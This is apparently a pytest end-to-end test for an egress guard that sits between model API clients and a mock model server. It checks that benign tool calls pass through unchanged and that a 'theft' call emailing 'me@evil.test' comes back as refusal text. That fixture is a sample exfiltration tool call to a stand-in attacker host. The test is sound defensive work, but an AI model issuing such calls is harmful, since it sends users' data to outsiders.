"""The official clients of the model APIs, with a real guard between them and a server.

The server answers with events of the recorded shapes.  A benign call must arrive as if there were
no guard; a refused one must arrive as words, and the agent loop must be able to go on.
"""

import json

import pytest

from tests.e2e.running_guard import Upstream, http_answer, serving
from tests.model_clients import ask
from tests.model_wires import Call, answered

RECALL = Call("call_0", "memory_recall_fact", {"key": "Grüße 😀"})
MAIL = Call("call_1", "email_send_email", {"to": "team@example.com", "subject": "s", "body": "b"})
THEFT = Call("call_0", "email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
TOOLS = {"benign": [RECALL, MAIL], "theft": [THEFT]}


def answer(request):
    """Answer as the API that was asked; the prompt says which calls to make."""
    head, _, body = request.partition(b"\r\n\r\n")
    text = json.dumps(json.loads(body), ensure_ascii=False)
    names = [name for name in TOOLS if f"please {name}" in text]
    calls = [] if "and then" in text else TOOLS[names[0]] if names else []
    data, media = answered(head.decode().partition("\r\n")[0], body, calls)
    return http_answer(data, media)


@pytest.fixture(scope="module")
def model(tmp_path_factory, no_proxy):
    """Return a guard in front of a model server."""
    server = Upstream()
    server.answer = answer
    options = ("--model-api", f"127.0.0.1:{server.port}")
    with serving(tmp_path_factory.mktemp("guard"), server, options=options) as guard:
        yield guard


ENDS = {
    "openai_chat": ("tool_calls", "stop"),
    "openai_responses": ("completed", "completed"),
    "anthropic": ("tool_use", "end_turn"),
    "gemini": ("STOP", "STOP"),
}
"""Why an answer with calls ends, and one without."""
CLIENTS = pytest.mark.parametrize("api", ENDS)
STREAMED = pytest.mark.parametrize("streamed", [True, False], ids=["streamed", "whole"])


@STREAMED
@CLIENTS
def test_a_benign_answer_is_the_same_with_and_without_the_guard(model, api, streamed):
    """Text, calls and the reason for the end."""
    direct, guarded = (
        ask(api, f"http://127.0.0.1:{port}", "please benign", streamed=streamed)
        for port in (model.upstream.port, model.port)
    )

    assert guarded == direct
    assert guarded[1] == [(one.id, one.name, one.arguments) for one in (RECALL, MAIL)]
    assert guarded[2] == ENDS[api][0]


@STREAMED
@CLIENTS
def test_a_refused_call_arrives_as_words_and_the_loop_goes_on(model, api, streamed):
    """The client reads a refusal, no call, and can send it back as part of the history."""
    url = f"http://127.0.0.1:{model.port}"

    text, calls, end = ask(api, url, "please theft", streamed=streamed)

    assert (calls, end) == ([], ENDS[api][1])
    assert text.startswith("Let me see. ")
    assert "by the egress guard and did not reach the tool" in text
    assert "evil.test" not in text
    assert ask(api, url, f"please theft and then {text}", streamed=streamed)[0] == "Let me see. "
